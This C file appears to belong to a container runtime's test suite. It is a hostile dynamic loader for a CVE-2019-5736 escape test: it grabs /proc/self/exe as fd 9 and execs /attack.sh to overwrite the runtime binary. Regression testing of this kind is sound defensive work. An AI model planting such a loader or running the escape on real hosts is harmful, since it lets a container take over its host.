/* A hostile rootfs's dynamic loader, for the CVE-2019-5736 attack test.
 *
 * A rootfs may ship its own /lib64/ld-linux-x86-64.so.2. The kernel runs it inside every
 * dynamically linked program executed in the container, hull too when the container makes
 * hull run itself with "#!/proc/self/exe", and /proc/self/exe then still names that program.
 * This loader keeps that reference as fd 9 and hands over to /attack.sh, which waits until
 * no hull process is left and then tries to write through it.
 *
 * No libc: a static libc would take the program headers from the auxiliary vector, which
 * describe hull, not this file. So: raw x86_64 system calls, built with -nostdlib. */
#define SYS_dup2 33
#define SYS_execve 59
#define SYS_exit 60
#define SYS_openat 257
#define AT_FDCWD (-100)
#define O_PATH 010000000

static long syscall3(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return result;
}

void _start(void) {
    static char* const argv[] = {"sh", "/attack.sh", 0};
    static char* const envp[] = {"PATH=/bin:/sbin", 0};
    long fd = syscall3(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH);
    if (fd >= 0) syscall3(SYS_dup2, fd, 9, 0);
    syscall3(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
    syscall3(SYS_exit, 127, 0, 0);
}
